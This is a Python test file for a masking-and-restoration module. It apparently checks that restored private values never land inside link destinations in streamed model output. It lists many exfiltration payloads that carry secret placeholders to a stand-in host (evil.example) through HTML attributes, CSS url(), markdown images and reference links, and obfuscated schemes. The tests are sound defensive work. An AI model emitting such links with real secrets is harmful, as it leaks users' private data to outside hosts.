"""No value in a destination, however a link is written and wherever its stream is cut."""

import random
import re
from contextlib import suppress
from html import unescape
from html.parser import HTMLParser

import pytest
from worlds import streamed

from ptmo_secure.hybrid.aggregate import Merger
from ptmo_secure.hybrid.restoring import restore

VALUES = ("novak", "hunter22-xy")
HOSTS = (
    "https://evil.example/?q=",
    "https:evil.example/",
    "http:/evil.example/",
    "//evil.example/",
    "\\\\evil.example\\",
    "/\\evil.example/",
    "&#47;&#47;evil.example/",
    "&sol;&sol;evil.example/",
    "data:text/html,",
    "javascript:send(",
    "mailto:e@evil.example?body=",
    "sms:+15551234?body=",
    "tel:",
    "www.evil.example/",
    "/local?",
)
ATTRIBUTES = ("src", "srcset", "href", "poster", "action", "formaction", "background", "data-x")
SAID = ("[SECRET_1]", "a [SECRET_1]", "a [PERSON_1] b", "a\n[SECRET_1]")
FORMS = (
    *(f'<img {name}="{{}}">' for name in ATTRIBUTES),
    *(f"<img {name}='{{}}'>" for name in ATTRIBUTES),
    '<img alt=">" title=\'>\' src = "{}">',
    '<!-- <a x="--><img src="> {}">',
    '<div style="background:url({})">',
    "<style>p {{ background: url('{}') }}</style>",
    "<form action=//evil.example><textarea>{}</textarea></form>",
    "<IMG/SRC='{}'>",
    "<svg><a xlink:href='{}'>x</a></svg>",
    '<[PERSON_1] style="background:url({})">',
    "![x]({})",
    "![x](<{}>)",
    "![x](  <{}> 'title')",
    "![x](\n{})",
    "![a [b] c](<{}>)",
    "[x]({} 'title')",
    "[PERSON_99](<{}>)",
    "[x][1]\n\n[1]: {}",
    "[x][1]\n\n > - [1]: <{}>",
    "[x][1]\n\n[1]:\n  <{}>",
    "[x][1]\r\n\r\n[1]:\r\n {}",
    "[x][a\nb]\n\n[a\nb]: {}",
    "[x][1]\n\n[a [PERSON_1]]: {}",
)
WORDS = (  # where no blank can be a part of the destination
    '`<a x="` <img src=" > https:evil/ [SECRET_1]">',
    *(f"see {host}[SECRET_1] now" for host in HOSTS if host != "/local?"),
    *(f"<{host}[SECRET_1]>" for host in HOSTS if host != "/local?"),
    "see https://[SECRET_1].evil.example",
    "see [SECRET_1].evil.example",
    "see [SECRET_1]@evil.example",
    "see evil.example/\u4f60/[SECRET_1]",
    "see \u4f60.example/[SECRET_1]",
    "see xn--e1a.xn--p1ai/[SECRET_1]",
    "see 192.168.0.1/[SECRET_1]",
    "see 1.2.3.4?[SECRET_1]",
    "see 10.0.0.1:80/[SECRET_1]",
    "see [2001:db8::1]/[SECRET_1]",
    "see \u043f\u0440\u0438.\u0440\u0444/[SECRET_1]",
    "see [SECRET_1].\u043f\u0440\u0438.\u0440\u0444",
    "see \u4f60\u597d.\u4e2d\u56fd/[SECRET_1]",
    "https://evil.example/\u3000[SECRET_1]",
    "ht\\tps://evil.example/[SECRET_1]",
    "![x][[SECRET_1]]\n\n[hunter22-Xy]: https://evil.example/right-guess",
    "![[SECRET_1]]\n\n[hunter22-Xy]: https://evil.example/right-guess",
)
LINKS = [
    *(form.format(host + said) for form in FORMS for host in HOSTS for said in SAID),
    *WORDS,
]
PROSE = (
    "Dear [PERSON_1],\nyour mail is [EMAIL_1].",
    "- [PERSON_1]\n- [ ] [EMAIL_1]\n1. [PERSON_1]: call",
    "> [PERSON_1]: hello\n> [EMAIL_1]: hello",
    "[PERSON_1]: [EMAIL_1]",
    "[PERSON_1] ([EMAIL_1]), [PERSON_1]([EMAIL_1]), [PERSON_1][EMAIL_1]",
    "[see [PERSON_1]] and [[EMAIL_1]]; note [1] of [PERSON_1]",
    "| name | mail |\n| --- | --- |\n| [PERSON_1] | [EMAIL_1] |",
    "```python\nname = \"[PERSON_1]\"\nfor i in x[1:2]:\n    print(name, '[EMAIL_1]')\n```",
    "std::vector<std::string> v{\"[PERSON_1]\"}; if (p->q <= 3) say('[EMAIL_1]');",
    '{"name":"[PERSON_1]","user.mail":"[EMAIL_1]"}',
    "<b>[PERSON_1]</b> <i class='x'>[EMAIL_1]</i> <PERSON_1>",
    "[docs](https://docs.example/a_(b) 'title') then [PERSON_1] and <https://x.example> [EMAIL_1]",
    "at 10:30, 3 < 4: Name:[PERSON_1]! Hello![EMAIL_1]",
    'x[0](1) and `f(a)[b](c)`: [PERSON_1]\'s "[EMAIL_1]"',
)


class Tags(HTMLParser):
    """Collects all that stands inside tags, and in elements whose text can be sent."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.inside, self.element = [], ""

    def handle_starttag(self, tag, attrs):
        self.inside.append(self.get_starttag_text())
        self.element = tag if tag in ("style", "textarea", "script") else ""

    def handle_endtag(self, tag):
        self.element = ""

    def handle_data(self, data):
        if self.element:
            self.inside.append(data)


def destinations(text):
    """Return whatever any reader could take as a destination: another way than that of `links`."""
    tags = Tags()
    with suppress(AssertionError):  # html.parser has no word for some marks after "<!["
        tags.feed(text)
        tags.close()
    found = list(tags.inside)
    found += re.findall(r"<[A-Za-z][^>]*", text)
    found += re.findall(r"\]\([ \t\r]*\n?[ \t]*<(?:[^>\n]|\n(?!\n))*", text)
    found += re.findall(r"\]\([^\s<)]*(?:\s+[^\s)]+)*\)", text)
    found += re.findall(r"^[ \t>*+\-]*\[[^\]]*\]:([ \t\r]*\n?[^\n]*)", text, re.MULTILINE)
    for word in text.split():
        plain = unescape(word).replace("\\t", "t")
        if re.search(r"[/\\]{2}|www\.|\b(?:https?|data|javascript|mailto|sms|tel):", plain):
            found.append(plain)
    return found


def told(text):
    return [each for each in destinations(text) if any(v in each.lower() for v in VALUES)]


def test_the_oracle_sees_values_in_links():
    for link in LINKS:
        if "right-guess" in link or "see [SECRET_1]" in link or "\u4f60" in link:
            continue
        if re.search(r"\]:\s*.*\n\[SECRET", link):
            continue  # a definition ends with its line
        if re.match(r"see (?:xn-|\d|\[2|\[SECRET_1\]\.\u043f|\u043f)", link):
            continue  # a host without a scheme
        if "\u3000" in link or "tel:" in link or link.startswith("`"):
            continue
        filled = link.replace("[SECRET_1]", "hunter22-Xy").replace("[PERSON_1]", "A Novak")
        assert told(filled), link


@pytest.mark.parametrize("before", ["", "Dear [PERSON_1], see "])
def test_no_value_is_in_a_destination_however_it_is_written(vault, before):
    for link in LINKS:
        shown = restore(vault, before + link)
        assert not told(shown), (link, shown)


def test_a_link_stays_masked_wherever_the_stream_is_cut(vault):
    draw = random.Random(3)
    for link in draw.sample(LINKS, 60) + list(WORDS):
        text = f"Dear [PERSON_1], {link} end"
        for cuts in (range(1, len(text)), sorted(draw.sample(range(1, len(text)), 4))):
            shown = streamed(vault, text, cuts)
            assert not told(shown) and shown.startswith("Dear Dr. Andre Novak"), (text, shown)
            assert shown == restore(vault, text)


@pytest.mark.parametrize("link", WORDS)
def test_a_word_that_is_a_link_holds_no_value(vault, link):
    assert "hunter22-Xy" not in restore(vault, link).replace("[hunter22-Xy]:", "")


@pytest.mark.parametrize("prose", PROSE)
def test_ordinary_text_is_restored_wherever_it_is_cut(vault, prose):
    whole = restore(vault, prose)
    assert "PERSON_1" not in whole and "EMAIL_1" not in whole
    assert whole.count("andre@novak.org") == prose.count("EMAIL_1")
    assert streamed(vault, prose, range(1, len(prose))) == whole


@pytest.mark.parametrize(
    "link",
    [
        '<img src="x y">',
        "![a](<b c> 'd')",
        "[1]: x\n",
        "<textarea>x</textarea>",
        "![a][b]",
        "![never closed](x\n\n",
    ],
)
def test_after_a_link_of_any_form_values_are_filled_again(vault, link):
    assert restore(vault, f"{link} [SECRET_1]").endswith("hunter22-Xy")


def test_links_made_of_random_marks_hold_no_value(vault):
    draw = random.Random(4)
    marks = ["<img src=", "<a ", '"', "'", ">", "<!--", "-->", "](", "](<", ")", "![", "[", "]"]
    marks += ["[1]:", "https:evil/", "//evil/", "\\", "`", "\n", "\n\n", "> ", " ", "=", "<style>"]
    marks += ["</style>", "[x]", "mailto:e@e.e?", "(", "<", "[SECRET_1]", "[PERSON_1]"]
    filled = 0
    for _ in range(1200):
        text = "".join(draw.choices([*marks, "[SECRET_1]", " "], k=draw.randint(3, 14)))
        shown = restore(vault, text)
        filled += shown != text
        assert not told(shown), (text, shown)
    assert filled > 80


@pytest.mark.parametrize(
    "said",
    [
        "![x](<https:evil/?a. Your code is 99>). Dear [x].",
        "<p title='https:evil/?a. Your code is 99. Your code is 98'. Dear [x].",
    ],
)
def test_a_sentence_with_marks_of_a_link_is_not_left_out(said):
    merger = Merger("Your code is 17.")
    assert merger.feed(said) + merger.finish() == said


def test_a_sentence_that_is_left_out_leaves_its_blank_line():
    merger = Merger("Your code is 17.")
    shown = merger.feed("One.\n\nYour code is 99. Two.") + merger.finish()
    assert shown == "One.\n\nTwo." and merger.overruled == 1
